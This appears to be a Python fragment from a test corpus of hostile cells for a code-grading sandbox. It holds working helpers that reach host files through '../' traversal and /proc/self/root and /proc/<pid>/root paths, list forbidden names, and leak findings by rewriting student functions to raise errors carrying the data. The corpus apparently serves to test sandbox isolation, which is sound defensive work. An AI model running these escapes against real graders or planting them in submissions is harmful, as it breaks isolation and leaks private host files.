# A hostile cell of the gradekit corpus: the head of every reporting hostile cell: the corpus's targets (_GK) and
# the exfiltration channel (_gk_note, _gk_report).
import json as _gk_json, os as _gk_os, sys as _gk_sys  # noqa: F401 (_gk_sys: for the cells after this one)
_GK = _gk_json.loads("__TARGETS__")        # the corpus's targets, substituted as JSON
_gk_found = []


def _gk_note(what):
    if len(_gk_found) < 12:
        _gk_found.append(str(what)[:110])


def _gk_report():
    """Exfiltrate: every student function now raises what was found, and so does this cell."""
    if not _gk_found:
        return
    text = ("LEAKED " + " | ".join(_gk_found))[:190]

    def _gk_liar(*args, **kwargs):
        raise RuntimeError(text)

    g = globals()
    for k, v in list(g.items()):
        if not k.startswith("_") and callable(v) and not isinstance(v, type) \
                and getattr(v, "__module__", None) == "__main__":
            g[k] = _gk_liar
    raise RuntimeError(text)


def _gk_variants(path, proc=True):
    """A host path reached other ways: relative to the working folder, and through /proc."""
    rel = path.lstrip("/")
    out = [path] + ["../" * k + rel for k in (1, 2, 3, 5, 8)]
    if proc:
        out += ["/proc/self/root/" + rel, "/proc/self/cwd/" + "../" * 8 + rel]
        out += ["/proc/%s/root/%s" % (p, rel) for p in _gk_os.listdir("/proc") if p.isdigit()]
    return out


def _gk_read(path, why="read"):
    try:
        with open(path, "rb") as f:
            data = f.read(4096)
    except BaseException:
        return None
    _gk_note("%s %r from %s" % (why, data[:48], path))      # the data first: notes are cut at 110 chars
    return data


def _gk_listing(path):
    """Names in a folder that the sandbox must not show."""
    try:
        names = set(_gk_os.listdir(path))
    except BaseException:
        return
    hits = sorted(names & set(_GK["names"]))
    if hits:
        _gk_note("listed %s: %s" % (path, hits[:4]))
